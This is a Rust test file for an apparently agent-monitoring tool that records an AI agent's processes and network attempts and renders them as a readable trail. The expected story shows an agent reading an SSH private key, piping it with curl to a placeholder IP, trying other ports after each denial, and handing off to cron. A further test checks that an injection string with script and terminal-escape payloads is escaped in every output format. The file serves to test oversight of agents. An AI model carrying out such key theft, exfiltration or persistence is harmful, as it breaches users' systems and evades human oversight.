//! A trail tells the story that is recorded, in order, on one screen, in every form; and what is hostile stays text.

#![expect(clippy::unwrap_used, reason = "a test that cannot go on says where")]

#[path = "common/current.rs"]
mod current;
#[path = "trail/story.rs"]
mod story;

use std::{
    fs,
    path::{Path, PathBuf},
};

use chaperone::{
    cli::trail::{Form, read::Source, tell, trail},
    trail::{Trail, Wanted, schema, view::Extent},
};
use current::current;
use story::{Image, Story, morning};

const INSTANCE: &str = "i-00010000000a0001";

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests").join(name)
}

fn of(id: &str, file: &Path) -> Result<Trail, String> {
    let wanted: Wanted = if id.is_empty() { Wanted::Everything } else { id.parse().unwrap() };
    trail(&wanted, &Source::file(file, None, None)).map_err(|e| format!("{e:#}"))
}

fn screen(trail: &Trail) -> String {
    let text = tell(trail, Form::Text, Extent::default(), 120).unwrap();
    anstream::adapter::strip_str(&text).to_string()
}

#[test]
fn a_morning_is_told_on_one_screen_in_every_form() {
    current("agent-daemon/tests/trail/morning.ndjson", &String::from_utf8(morning()).unwrap());
    let trail = of(INSTANCE, &fixture("trail/morning.ndjson")).unwrap();
    let text = screen(&trail);
    assert!(text.lines().count() <= 40 && text.lines().all(|line| line.chars().count() <= 120), "{text}");
    let mut from = 0;
    for part in [
        "cat /home/dev/.ssh/id_ed25519",
        "drop.example.net of 10.0.0.53",
        "DENY  tcp 203.0.113.7:443 (drop.example.net)",
        "DENY  tcp 203.0.113.7:8443",
        "curl -sk -T - https://203.0.113.7/",
        "DENY  tcp 203.0.113.7:443",
        "DENY  tcp 203.0.113.7:53",
        "DENY  tcp 203.0.113.7:22",
        "handed off: cron",
        "stop",
    ] {
        from += text[from..].find(part).unwrap_or_else(|| panic!("{part} does not follow\n{text}")) + 1;
    }
    assert!(!text.contains("codex") && !text.contains("pid 3000"), "of others:\n{text}");
    current("agent-daemon/tests/trail/morning.txt", &text);
    for (form, name) in
        [(Form::Json, "json"), (Form::Dot, "dot"), (Form::Mermaid, "mmd"), (Form::Html, "html")]
    {
        let told = tell(&trail, form, Extent::default(), 120).unwrap();
        current(&format!("agent-daemon/tests/trail/morning.{name}"), &told);
    }
}

#[test]
fn every_way_of_asking_leads_to_the_same_instance() {
    let file = fixture("trail/morning.ndjson");
    for id in [
        INSTANCE,
        "x-00010000000a0151",
        "pid:4181",
        "pid:4181@2026-01-31T09:02:35.010Z",
        "203.0.113.7:8443",
        "203.0.113.0/24",
        "drop.example.net",
        "finding:108",
    ] {
        let trail = of(id, &file).unwrap();
        let all: Vec<String> = trail.instances.iter().map(|i| i.id.to_string()).collect();
        assert_eq!(all, [INSTANCE], "{id}");
    }
    let person = of("x-ffff000000000007", &file).unwrap();
    assert!(person.instances.is_empty() && person.counts.events == 1, "{:?}", person.counts);
    assert_eq!(of("", &file).unwrap().instances.len(), 2);
}

#[test]
fn what_is_not_there_is_answered_with_where_and_what_is() {
    let file = fixture("trail/morning.ndjson");
    for (id, parts) in [
        ("i-00010000000a0002", ["morning.ndjson", "2026-01-31T08:59:12", INSTANCE]),
        ("drop.example.com", ["drop.example.com", "2026-01-31T09:02:53", "drop.example.net"]),
        ("203.0.113.8:443", ["203.0.113.8:443", "from", "203.0.113.7:443"]),
        ("pid:4181@2026-01-31T08:00:00Z", ["pid:4181@", "a process 4181 began", "09:02:35"]),
        ("pid:4181@2026-01-31T09:05:00Z", ["pid:4181@", "a process 4181 ended", "09:02:35"]),
    ] {
        let wrong = of(id, &file).unwrap_err();
        assert!(parts.iter().all(|part| wrong.contains(part)), "{id}: {wrong}");
    }
}

#[test]
fn what_an_agent_says_is_text_in_every_form() {
    let mut story = Story::default();
    let hostile = "<script>alert(1)</script>\"];n0[\"\x1b[2J\n\u{202e}`rm`&#x27;\\";
    let agent = Image(0x0001_0000_000a_0001, 4100, 1, "/usr/bin/python3.11");
    story.exec_as(0, agent, &["python3", hostile], Some(agent_common::identity::Recognised::Exe), None);
    let trail = of_lines(&story.lines, INSTANCE);
    for form in [Form::Text, Form::Dot, Form::Mermaid, Form::Html] {
        let told = tell(&trail, form, Extent::default(), usize::MAX).unwrap();
        assert!(told.contains("alert"), "{told}");
        let told = anstream::adapter::strip_str(&told).to_string();
        assert!(!told.contains('\x1b') && !told.contains('\u{202e}'), "{told}");
        match form {
            Form::Html => assert!(!told.contains("<script") && told.contains("&lt;script&gt;"), "{told}"),
            Form::Dot => assert!(told.contains("\\\"];n0[\\\""), "{told}"),
            Form::Mermaid => assert!(!told.contains("<script") && !told.contains("\"];n0"), "{told}"),
            _ => assert!(told.lines().count() < 8, "{told}"),
        }
    }
}

#[test]
fn what_an_agent_starts_is_followed_and_what_it_floods_is_folded_and_bounded() {
    let mut story = Story::default();
    let agent = Image(0x0001_0000_000a_0001, 4100, 1, "/usr/bin/python3.11");
    story.exec(0, agent, &["python3"]);
    for n in 0..5_000 {
        story.connects(n, agent, "203.0.113.7:443", None, None);
    }
    // A chain of processes as long as an agent likes, and one of images of a single process.
    for n in 1..30_000_u64 {
        let (pid, above) =
            if n < 15_000 { (4100 + n as u32, agent.0 + n - 1) } else { (4100, agent.0 + n - 1) };
        story.exec(5_000 + n, Image(agent.0 + n, pid, above, "/usr/bin/dash"), &["sh"]);
    }
    let trail = of_lines(&story.lines, INSTANCE);
    assert!(trail.nodes.len() <= 20_001 && trail.counts.beyond >= 9_000, "{:?}", trail.counts);
    let text = screen(&trail);
    assert!(text.contains("× 5,000 until 08:59:1"), "{text}");
    assert!(text.contains("counted and not kept") && text.lines().count() <= 40, "{text}");
    for form in [Form::Json, Form::Dot, Form::Mermaid, Form::Html] {
        tell(&trail, form, Extent { all: true, depth: None }, 120).unwrap();
    }
    // Nothing is folded, however deep.
    let all = tell(&trail, Form::Text, Extent { all: true, depth: None }, 200).unwrap();
    assert!(!all.contains("--all shows them") && all.lines().count() > 20_000, "{}", all.lines().count());
    assert!(all.lines().any(|line| line.contains(" +14000 ")), "{}", all.lines().last().unwrap_or_default());
}

#[test]
fn an_image_that_finds_no_room_is_counted_once() {
    let mut story = Story::default();
    let agent = Image(0x0001_0000_000a_0001, 4100, 1, "/usr/bin/python3.11");
    story.exec(0, agent, &["python3"]);
    for n in 1..20_010 {
        story.exec(n, Image(agent.0 + n, 4100 + n as u32, agent.0, "/usr/bin/dash"), &["sh"]);
    }
    // One whose exec was not recorded.
    for n in 0..100 {
        let late = Image(agent.0 + 50_000, 60_000, agent.0, "/usr/bin/curl");
        story.connects(30_000 + n, late, "203.0.113.7:443", None, None);
    }
    let counts = of_lines(&story.lines, INSTANCE).counts;
    // Each of its acts was refused, for which there is room.
    assert_eq!((counts.images, counts.beyond), (20_010, 10), "{counts:?}");
}

fn of_lines(lines: &[u8], id: &str) -> Trail {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("events.ndjson");
    fs::write(&file, lines).unwrap();
    of(id, &file).unwrap()
}

#[test]
fn a_segment_that_is_cut_is_told_as_far_as_it_can_be_read() {
    let mut story = Story::default();
    let agent = Image(0x0001_0000_000a_0001, 4100, 1, "/usr/bin/python3.11");
    story.exec(0, agent, &["python3"]);
    for n in 1..200 {
        story.exec(n, Image(agent.0 + n, 4100 + n as u32, agent.0, "/usr/bin/dash"), &["sh"]);
    }
    let lines: Vec<&[u8]> = story.lines.split_inclusive(|byte| *byte == b'\n').collect();
    let dir = tempfile::tempdir().unwrap();
    let active = dir.path().join("events.ndjson");
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, &lines[..150].concat()).unwrap();
    let gz = gz.finish().unwrap();
    let closed = dir.path().join("events-00000000000000000001.ndjson.gz");
    fs::write(&active, lines[150..].concat()).unwrap();
    let images = |bytes: &[u8]| {
        fs::write(&closed, bytes).unwrap();
        let source = Source::journal(&active, None, None);
        trail(&INSTANCE.parse().unwrap(), &source).unwrap().counts.images
    };
    assert_eq!(images(&gz), 200);
    let some = images(&gz[..gz.len() / 2]);
    assert!((60..150).contains(&some), "{some}");
}

#[test]
fn real_agents_traffic_fits_on_a_screen() {
    let file = fixture("traffic/events.ndjson");
    let all = of("", &file).unwrap();
    assert!(all.counts.beyond == 0 && all.instances.len() > 4);
    for instance in &all.instances {
        let trail = of(&instance.id.to_string(), &file).unwrap();
        let text = screen(&trail);
        assert!(text.lines().count() <= 42, "{text}");
    }
}

#[test]
fn the_schema_is_current() {
    current("docs/schema/trail.schema.json", &(serde_json::to_string_pretty(&schema()).unwrap() + "\n"));
}
